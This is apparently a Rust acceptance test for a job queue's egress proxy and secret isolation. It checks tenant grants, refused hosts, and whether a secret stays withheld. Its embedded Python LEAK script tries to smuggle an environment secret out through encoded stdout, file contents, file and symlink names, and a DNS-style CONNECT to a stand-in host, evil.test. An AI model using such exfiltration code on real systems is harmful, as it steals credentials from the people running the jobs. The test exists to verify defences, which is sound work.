//! By the queue, with a real broker, worker and proxy: does a job reach what its tenant and profile grant, and does a
//! secret go where it is for and nowhere else?

use acceptance::batch::{python, text};
use acceptance::leftovers::wait_for;
use acceptance::outside::secure::{Secure, VALUE, has_no_value, key, sha256};
use acceptance::outside::{Answer, Names, Site};
use acceptance::places;
use acceptance::stack::http;
use acceptance::stack::letter::Letter;
use acceptance::stack::world::{SOON, World, fresh, id};
use serde_json::{Value, json};
use std::path::Path;

/// Asks for everything that there is, granted or not; says what came of it, line by line.
const CODE: &str = concat!(
    include_str!("../src/outside/hear.py"),
    r#"
import hashlib, os, socket, ssl, sys
OK, API = sys.argv[1:3]
def ask(text, end=b""):
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.settimeout(30)
    s.sendall(text.encode())
    return s, hear(s, end)
def get(at, path="/"):
    host = at.removesuffix(":80")
    head, _, body = ask(f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\n\r\n")[1].partition(b"\r\n\r\n")
    return f"{head.split(b' ')[1].decode()} {body.decode().strip()}"
def tls(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    s, said = ask(f"CONNECT {API} HTTP/1.1\r\nHost: {API}\r\n\r\n", b"\r\n\r\n")
    try:
        with context.wrap_socket(s, server_hostname=name) as s:
            s.sendall(b"GET /v1/t HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            return hear(s).split(b" ")[1].decode()
    except ssl.SSLError as e: return e.reason
print("granted", get(OK, "/a"))
print("not listed", get("evil.test:80")[:3])
print("attached", get("api.test:80", "/v1/x"))
print("tunnel", tls("api.test"))
print("another", tls("evil.test"))
print("secret", hashlib.sha256(os.environ["KEY"].encode()).hexdigest())
"#
);

/// Brings its secret out in a stream, a file, the names of files, and the name of a host.
const LEAK: &str = r#"
import base64, os, socket
value = os.environ["KEY"]
print("x", base64.b64encode(value.encode()).decode())
open("a.txt", "w").write(value.encode().hex())
open(f"{value}.csv", "w").write("a,b\n")
os.symlink("/x", f"link-{value}")
s = socket.create_connection(("127.0.0.1", 3128), 10)
s.sendall(f"CONNECT {value}.evil.test:443 HTTP/1.1\r\nHost: {value}.evil.test:443\r\n\r\n".encode())
s.recv(999)
"#;
/// What stands in place of a name that holds a secret.
const COVER: &str = "[kiln: withheld: this name holds a secret]";

/// The outside, and what a worker is told of it.
struct Outside {
    names: Names,
    site: Site,
    secure: Secure,
}

impl Outside {
    fn new(folder: &Path) -> Self {
        let here = || Answer::Always(vec!["127.0.0.1".parse().expect("an address")]);
        let known = ["ok.test", "api.test"].map(|name| (name.to_owned(), here()));
        Self {
            names: Names::start(known.into()),
            site: Site::start("127.0.0.1:0"),
            secure: Secure::start(folder),
        }
    }

    fn targets(&self) -> [String; 2] {
        [
            format!("ok.test:{}", self.site.address.port()),
            format!("api.test:{}", self.secure.port),
        ]
    }

    fn config(&self, folder: &Path) -> String {
        let [ok, api] = self.targets();
        let given = "tenants = ['acme']\nprofiles = ['python']";
        format!(
            "[egress]\nresolvers = ['{}']\nallow_private = ['127.0.0.1/32']\nca_file = '{}'\n\n\
             [profiles.python.network]\nallow = ['{ok}', '{api}']\n\n\
             [tenants.acme]\nshare = 1\n\n[tenants.evil]\nshare = 1\n\n\
             [secrets.'acme/key']\nfile = '{}'\n{given}\n\n\
             [secrets.'acme/old']\nfile = '{}'\n{given}\nexpires = 2020-01-01\n\n\
             [credentials.api]\nsecret = 'acme/key'\nhost = '{api}'\npath = '/v1/'\nbefore = 'Bearer '\n",
            self.names.address,
            self.secure.authority().display(),
            key(folder),
            folder.join("key").display(),
        )
    }
}

fn job(code: &str, targets: &[String], secret: Option<&str>) -> Value {
    let mut job = python(&fresh("job"), code);
    job["args"] = json!(targets);
    job["network"] = json!({"allow": targets});
    if let Some(secret) = secret {
        job["secrets"] = json!({"KEY": secret});
    }
    job
}

/// What becomes of a job of a tenant, or of nobody's.
fn serve(world: &World, tenant: Option<&str>, job: &Value) -> Value {
    let key = tenant.map_or_else(
        || "interactive".to_owned(),
        |tenant| format!("interactive.{tenant}"),
    );
    world.serve_letter(Letter::job(&key, job), &id(job))
}

#[test]
fn a_tenants_grants_and_secrets_are_its_own() {
    let folder = places::scratch();
    let outside = Outside::new(folder.path());
    let targets = outside.targets();
    let world = World::with(|setup| {
        setup.more = outside.config(folder.path());
        setup.env = vec![("KILN_LOG".to_owned(), "debug".to_owned())];
    });

    let own = serve(&world, Some("acme"), &job(CODE, &targets, Some("acme/key")));
    let api = &targets[1];
    let said: Vec<_> = text(&own, "stdout").lines().collect();
    let wanted = [
        "granted 200 hello".to_owned(),
        "not listed 403".to_owned(),
        format!("attached 200 /v1/x {api} 1 True"),
        "tunnel 200".to_owned(),
        "another TLSV1_ALERT_ACCESS_DENIED".to_owned(),
        format!("secret {}", sha256(VALUE)),
    ];
    assert_eq!(said, wanted, "{own:#}");
    assert_eq!(own["evidence"]["network_refused"], 2, "{own:#}");
    assert_eq!(own["evidence"]["network_allowed"], 3);
    let warning = own["warnings"][0]["message"].as_str().expect("a warning");
    assert!(warning.contains("`evil.test:80` not listed"), "{warning}");
    assert!(warning.contains(&format!("`{api}` misnamed")), "{warning}");

    // What it makes of its secret is withheld, in whatever form, and so are the names that hold it.
    let leak = serve(&world, Some("acme"), &job(LEAK, &targets, Some("acme/key")));
    assert_eq!(leak["status"], "succeeded", "{leak:#}");
    assert_eq!(
        leak["artifacts"].as_array().map(Vec::len),
        Some(1),
        "{leak:#}"
    );
    assert_eq!(leak["artifacts"][0]["state"], "withheld", "{leak:#}");
    assert!(
        text(&leak, "stdout").starts_with("[kiln: withheld"),
        "{leak:#}"
    );
    let skipped = [("bad_name", COVER), ("symlink", COVER)]
        .map(|(reason, path)| json!({"path": path, "reason": reason}));
    assert_eq!(leak["skipped"], json!(skipped), "{leak:#}");
    assert!(
        leak["warnings"]
            .to_string()
            .contains(&format!("`{COVER}` not listed")),
        "{leak:#}"
    );
    assert!(!leak.to_string().contains(VALUE), "{leak:#}");

    // Another tenant, nobody's tenant, an old secret, and a host beyond the ceiling: refused before anything runs.
    let beyond = ["evil.test:443".to_owned()];
    for (tenant, job, pointer) in [
        (
            Some("evil"),
            job(LEAK, &[], Some("acme/key")),
            "/secrets/KEY",
        ),
        (None, job(LEAK, &[], Some("acme/key")), "/secrets/KEY"),
        (
            Some("acme"),
            job(LEAK, &[], Some("acme/old")),
            "/secrets/KEY",
        ),
        (Some("acme"), job(LEAK, &beyond, None), "/network/allow/0"),
    ] {
        let refused = serve(&world, tenant, &job);
        assert_eq!(refused["status"], "rejected", "{refused:#}");
        assert_eq!(refused["evidence"]["pointer"], pointer, "{refused:#}");
    }
    // The credential is not another tenant's: its request is a plain one, to a port that it was not granted.
    let code = CODE.replace("print(\"secret\"", "0 and print(\"secret\"");
    let theirs = serve(&world, Some("evil"), &job(&code, &targets, None));
    let theirs = text(&theirs, "stdout");
    assert!(theirs.starts_with("granted 200 hello\n"), "{theirs}");
    assert!(
        theirs.contains("attached 403 kiln: `api.test:80` is not allowed"),
        "{theirs}"
    );
    assert_eq!(outside.secure.named(), ["api.test"; 3]);

    counted_and_kept_secret(&world);
}

/// The figures tell of it, and no word of the value is in them, in logs, in the store or in messages.
fn counted_and_kept_secret(world: &World) {
    let worker = &world.workers[0];
    for (decision, least) in [("allowed", 5.0), ("not_listed", 4.0), ("misnamed", 2.0)] {
        let label = format!("decision=\"{decision}\"");
        let count = || worker.metric("kiln_egress_total", &label);
        let counted = wait_for(SOON, || count() > least - 0.5);
        assert!(counted, "{decision}: {}", count());
    }
    let metrics = http::get(worker.telemetry(), "/metrics")
        .expect("it tells")
        .body;
    let logs = worker.logs();
    assert!(
        logs.contains("misnamed") && logs.contains("DEBUG"),
        "{logs}"
    );
    assert!(!metrics.contains(VALUE) && !logs.contains(VALUE));
    has_no_value(&world.store());
    has_no_value(worker.state());
}
